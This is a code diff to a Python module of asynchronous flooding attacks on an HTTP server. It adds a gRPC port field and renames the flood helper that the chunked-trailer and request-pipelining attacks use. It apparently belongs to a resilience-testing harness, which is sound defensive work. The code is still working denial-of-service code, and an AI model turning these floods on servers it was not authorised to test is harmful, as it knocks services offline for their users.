@@ -24,6 +24,7 @@ class Target:
 
     Attributes:
         admin_port: that of probes alone, where there is one.
+        grpc_port: that of gRPC, where there is one.
         done: when a request of the attack itself was answered.
     """
 
@@ -31,6 +32,7 @@ class Target:
     is_pair: bool
     until: float
     admin_port: int | None = None
+    grpc_port: int | None = None
     done: list[float] = field(default_factory=list)
 
     def goes_on(self) -> bool:
@@ -72,7 +74,8 @@ def again_and_again(connections: int) -> Callable[[Attack], Attack]:
     return repeat
 
 
-async def _flood(target: Target, writer: asyncio.StreamWriter, data: bytes) -> None:
+async def flood(target: Target, writer: asyncio.StreamWriter, data: bytes) -> None:
+    """Send it again and again."""
     while target.goes_on():
         writer.write(data)
         await asyncio.wait_for(writer.drain(), 5)
@@ -82,13 +85,13 @@ async def _flood(target: Target, writer: asyncio.StreamWriter, data: bytes) -> N
 async def trailers(target: Target) -> None:
     async with connected(target) as (_, writer):
         writer.write(HEAD + b"Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n0\r\n")
-        await _flood(target, writer, b"a: b\r\n" * 1000)
+        await flood(target, writer, b"a: b\r\n" * 1000)
 
 
 @again_and_again(40)
 async def pipelining(target: Target) -> None:
     async with connected(target) as (_, writer):
-        await _flood(target, writer, b"GET /info HTTP/1.1\r\nHost: x\r\n\r\n" * 500)
+        await flood(target, writer, b"GET /info HTTP/1.1\r\nHost: x\r\n\r\n" * 500)
 
 
 @again_and_again(4)
@@ -96,7 +99,7 @@ async def pipelining_that_reads(target: Target) -> None:
     async with connected(target) as (reader, writer):
         reading = asyncio.create_task(_read(reader))
         try:
-            await _flood(target, writer, b"GET /info HTTP/1.1\r\nHost: x\r\n\r\n" * 500)
+            await flood(target, writer, b"GET /info HTTP/1.1\r\nHost: x\r\n\r\n" * 500)
         finally:
             reading.cancel()
 
